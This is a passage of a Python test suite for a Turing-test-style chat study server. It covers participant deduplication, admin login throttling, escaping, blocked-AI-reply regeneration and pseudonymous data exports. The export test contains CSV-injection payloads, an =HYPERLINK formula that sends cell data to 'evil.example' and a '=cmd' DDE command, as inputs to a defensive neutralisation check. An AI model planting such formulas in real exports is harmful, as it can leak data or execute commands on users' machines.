                r = await third.post("/start?PROLIFIC_PID=pp9", data={"csrf": tok})
                third_pid = r.headers["location"].rsplit("/", 1)[-1]
                assert third_pid not in (pid, dup)
            # each browser goes back to its own participant
            assert (await owner.get("/?PROLIFIC_PID=pp9")).headers["location"].endswith(pid)
            assert (await other.get("/?PROLIFIC_PID=pp9")).headers["location"].endswith(dup)
            # a cookie of a participant with another Prolific id is no key either
            r = await prolific_start(other, "PROLIFIC_PID=other-id")
            assert r.headers["location"].rsplit("/", 1)[-1] not in (pid, dup)
    with Store(sqlite_url) as store:
        assert store.get_participant(pid).label is None
        assert store.get_participant(pid).prolific_session_id == "s1"
        for d in (dup, third_pid):
            info = store.get_participant(d)
            assert info.label == DUPLICATE_PID and info.prolific_pid == "pp9"
        assert store.find_participant(prolific_pid="pp9").id == pid


async def test_admin_throttles_failed_logins_and_exports_are_safe_and_pseudonymous(sqlite_url):
    """Failed logins are throttled per address; CSV cells a spreadsheet would execute are
    neutralised; no export carries a participant id (the participants' login tokens)."""
    with running(study(), sqlite_url, admin_password="s3cret") as base:
        seats = await in_game(await players(base, 2))
        pids = {p.pid for p in seats.values()}
        await say(seats["interrogator"], '=HYPERLINK("http://evil.example/?"&A1,"x")')
        await seats["A"].next("message")
        await say(seats["A"], "@SUM(1+1)", conv=None)
        await seats["interrogator"].next("message")
        await say(seats["interrogator"], "-2+3")
        await seats["A"].next("message")
        await say(seats["A"], "+1 fine", conv=None)
        await seats["interrogator"].next("message")
        await seats["interrogator"].send({"type": "verdict", "choice": "human", "confidence": 80,
                                          "reason": "=cmd|' /C calc'!A0"})
        await seats["interrogator"].phase("reveal")
        auth = AdminLogin("s3cret")
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.get("/admin/export/messages.csv", auth=auth)
            texts = list(pd.read_csv(io.StringIO(r.text))["text"])
            assert texts == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1+1)", "'-2+3", "'+1 fine"]
            r = await c.get("/admin/export/verdicts.csv", auth=auth)
            v = pd.read_csv(io.StringIO(r.text))
            assert list(v["reason"]) == ["'=cmd|' /C calc'!A0"] and list(v["confidence"]) == [80]
            seen = {}
            for t in ("games", "messages", "verdicts", "participants", "events"):
                for fmt in ("csv", "parquet"):
                    r = await c.get(f"/admin/export/{t}.{fmt}", auth=auth)
                    assert r.status_code == 200
                    assert not any(pid.encode() in r.content for pid in pids), (t, fmt)
                    if fmt == "csv":
                        seen[t] = pd.read_csv(io.StringIO(r.text))
            # pseudonyms join across tables
            assert set(seen["verdicts"]["interrogator_id"]) <= set(seen["participants"]["participant_id"])
            assert seen["games"]["interrogator_id"][0] == seen["verdicts"]["interrogator_id"][0]
            assert str(seen["games"]["interrogator_id"][0]).startswith("P")
            # parquet keeps the text as it is (no spreadsheet runs it)
            r = await c.get("/admin/export/messages.parquet", auth=auth)
            assert pd.read_parquet(io.BytesIO(r.content))["text"][2] == "-2+3"
        # throttle: 5 failures on the account, then even the right password waits (a new browser;
        # issue 24: keyed on the account, see tests/test_admin_door.py)
        async with httpx.AsyncClient(base_url=base) as c:
            for _ in range(5):
                assert (await c.get("/admin", auth=AdminLogin("guess"))).status_code == 401
            r = await c.get("/admin", auth=auth)
            assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0


def test_login_throttle_window():
    """Issue 24: keyed on the attempted account (not the address), with a doubling backoff capped
    at max_backoff_s, forgotten after the window."""
    from turinglab.server.admin_auth import LoginThrottle

    now = [0.0]
    t = LoginThrottle(limit=3, window_s=100, max_backoff_s=4, clock=lambda: now[0])
    for _ in range(3):
        assert t.wait("alice") == 0
        t.failed("alice")
        now[0] += 1
    assert t.wait("alice") == 0 and t.wait("bob") == 0  # 1 s backoff from the last failure, at t=2
    t.failed("alice")  # t=3: 4 failures, 2 s
    assert t.wait("alice") == 2 and t.wait("bob") == 0
    for _ in range(5):
        t.failed("alice")
    assert t.wait("alice") == 4  # capped
    now[0] = 104.0
    assert t.wait("alice") == 0


class RudeOnce(Witness):
    """A model whose first reply is blocked and whose second is fine."""

    codename, kind = "RudeOnce", "local"

    def __init__(self) -> None:
        self.calls = 0

    async def reply(self, history, ctx):
        self.calls += 1
        return Reply(text="fuck off" if self.calls == 1 else "haha hi, not much going on here")


async def test_a_blocked_ai_reply_is_regenerated_within_its_delay_and_counted(sqlite_url):
    """The model is asked again (within the designed delay) before any fallback answers; the
    blocked outputs are recorded, counted on /admin and flagged on the game (for the report)."""
    slow = Timing(base_s=1.0, s_per_char=0.002, gamma_shape=1.0, gamma_scale=0.01)
    spec = WitnessSpec(codename="RudeOnce", kind="local", timing=slow)
    made: list[RudeOnce] = []

    def factory(spec, seed):
        made.append(RudeOnce())
        return made[-1]

    with running(study(ratio=0.0, witnesses=(spec,)), sqlite_url, witness_factory=factory,
                 admin_password="pw") as base:
        (i,) = await players(base, 1)
        await i.phase("game")
        t0 = time.monotonic()
        await say(i, "hello there")
        reply = await i.next("message")
        assert reply["text"] == "haha hi, not much going on here"  # the model's own second try, not ELIZA
        assert time.monotonic() - t0 >= 0.9  # still the designed delay, not the first try's time
        assert any(m.calls == 2 for m in made)  # the game's model, asked twice (the capacity probe may build another)
        async with httpx.AsyncClient(base_url=base) as c:
            page = (await c.get("/admin", auth=AdminLogin("pw"))).text
            assert "Blocked AI outputs: 1" in page
        await i.send({"type": "verdict", "choice": "ai", "confidence": 60})
        await i.phase("reveal")
    from turinglab.analysis.live.load import load

    assert list(load(sqlite_url).judgements["ai_outputs_blocked"]) == [1]
    with Store(sqlite_url) as store:
        (g,) = store.games()
        blocked = [e for e in store.events(g.id) if e.type == "refused" and e.payload.get("code") == "blocked"]
        assert [(e.actor, e.payload["text"]) for e in blocked] == [("A", "fuck off")]
        assert g.flags == {"ai_output_blocked": 1}


async def test_three_player_lone_participant_sees_the_count_and_the_study_rule_ends_the_wait(sqlite_url):
    """Alone in a three-player study: the state says how many are here of the two needed (live),
    and after allocation.lone_wait_s the wait ends (phase `alone`, with the completion link)."""
    s = Study(name="lone3", format="three-player", rules=RULES, witnesses=(ELIZA,),
              allocation=Allocation(lone_wait_s=1.5), completion_url="https://example.org/done?cc=X")
    with running(s, sqlite_url) as base:
        (a,) = await players(base, 1)
        st = await a.phase("waiting")
        assert st["lone"]["here"] == 1 and st["lone"]["needed"] == 2
        assert st["lone"]["ends_ms"] == st["waiting_since_ms"] + 1500
        async with httpx.AsyncClient(base_url=base) as c:
            page = (await c.get(f"/p/{a.pid}")).text
            assert "within 1.5 seconds" in page and "Finish the study" in page
        t0 = time.monotonic()
        st = await a.phase("alone")
        assert time.monotonic() - t0 >= 1.0 and st["lone"] is None
        # waiting again starts a new wait; a second person makes the count live, then a game
        await a.send({"type": "join"})
        assert (await a.phase("waiting"))["lone"]["here"] == 1
        b = await (await WsPlayer.create(base)).connect()
        await b.phase("idle")
        await b.send({"type": "join"})
        await in_game([a, b])
        counts = [f["lone"]["here"] for f in a.frames if f["type"] == "state" and f.get("lone")]
        assert counts[-1] == 2 or 2 not in counts  # a count of 2 is only ever the last before the game


async def test_three_player_lone_then_wait_keeps_waiting(sqlite_url):
    s = Study(name="lone3w", format="three-player", rules=RULES, witnesses=(ELIZA,),
              allocation=Allocation(lone_wait_s=0.3, lone_then="wait"))
    with running(s, sqlite_url) as base:
        (a,) = await players(base, 1)
        st = await a.phase("waiting")
        assert st["lone"] == {"here": 1, "needed": 2, "ends_ms": None}
        await asyncio.sleep(0.8)
        assert not [f for f in a.frames if f["type"] == "state" and f["phase"] == "alone"]
        async with httpx.AsyncClient(base_url=base) as c:
            assert "keep waiting as long as you like" in (await c.get(f"/p/{a.pid}")).text


async def test_participant_pages_display_name_decline_favicon_and_admin_transcript(sqlite_url):
    s = study(display_name="Chat & decide", no_consent_url="https://example.org/nc?cc=NOCONSENT")
    with running(s, sqlite_url, admin_password="pw") as base:
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.post("/start")
            pid = r.headers["location"].rsplit("/", 1)[-1]
            page = (await c.get(f"/p/{pid}")).text
            assert '<span class="brand">Chat &amp; decide</span>' in page and s.name not in page
            assert "I do not agree" in page and 'rel="icon"' in page
            r = await c.post(f"/p/{pid}/decline", data={"csrf": csrf_token(page)})
            assert r.status_code == 303 and r.headers["location"] == "https://example.org/nc?cc=NOCONSENT"
            assert (await c.post(f"/p/{pid}/decline", data={"csrf": "bad"})).status_code == 403
            r = await c.get("/favicon.ico", follow_redirects=True)
            assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg")
        seats = await in_game(await players(base, 2))
        await say(seats["interrogator"], "<b>hello</b> & bye")
        await seats["A"].next("message")
        async with httpx.AsyncClient(base_url=base) as c:
            admin = (await c.get("/admin", auth=AdminLogin("pw"))).text
            assert 'id="live"' in admin and "/static/admin.js" in admin
            gid = next(f["game"]["game_id"] for f in seats["interrogator"].frames if f.get("game"))
            assert f'href="/admin/game/{gid}"' in admin
            t = await c.get(f"/admin/game/{gid}", auth=AdminLogin("pw"))
            assert t.status_code == 200 and "&lt;b&gt;hello&lt;/b&gt; &amp; bye" in t.text and "<b>hello" not in t.text
            assert "In progress" in t.text
            async with httpx.AsyncClient(base_url=base) as anon:  # issue 24: not logged in: the form
                assert (await anon.get(f"/admin/game/{gid}")).headers["location"].startswith("/admin/login?next=")
            assert (await c.get("/admin/game/nope", auth=AdminLogin("pw"))).status_code == 404
            assert (await c.get("/static/admin.js")).status_code == 200
    # without a no-consent link: a page that says nothing was recorded
    with running(study(version=2), sqlite_url) as base:
        async with httpx.AsyncClient(base_url=base) as c:
            pid = (await c.post("/start")).headers["location"].rsplit("/", 1)[-1]
            page = (await c.get(f"/p/{pid}")).text
            assert "Human or AI? A chat study" in page
            r = await c.post(f"/p/{pid}/decline", data={"csrf": csrf_token(page)})
            assert r.status_code == 200 and "no chat or answers of yours were recorded" in r.text


async def test_admin_leaderboard_marks_bot_games(sqlite_url):
    from turinglab.store import Store

    with running(study(witnesses=(ELIZA,)), sqlite_url, admin_password="pw") as base:
        seats = await in_game(await players(base, 2))
        await say(seats["interrogator"], "hello")
        await seats["interrogator"].send({"type": "verdict", "choice": "human", "confidence": 70})
        await seats["interrogator"].phase("reveal")
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.get("/admin", auth=AdminLogin("pw"))
            assert r.status_code == 200 and "Humanlikeness leaderboard" in r.text
            row = re.search(r"<tr><td>1</td><td>Human</td><td>two-player</td><td>played</td><td>1</td><td>1</td>"
                            r"<td>1.000</td><td>\[0.0\d\d, 1.000\]</td></tr>", r.text)
            assert row, r.text[r.text.index("Humanlikeness"):][:800]
            st = Store(sqlite_url)
            try:
                [g] = [g for g in st.games(st.studies()[-1].id) if g.verdict]
                st.set_flag(g.id, "bot", True)
            finally:
                st.close()
            r = await c.get("/admin", auth=AdminLogin("pw"))
            assert "<td>Human</td><td>two-player</td><td>bot</td>" in r.text
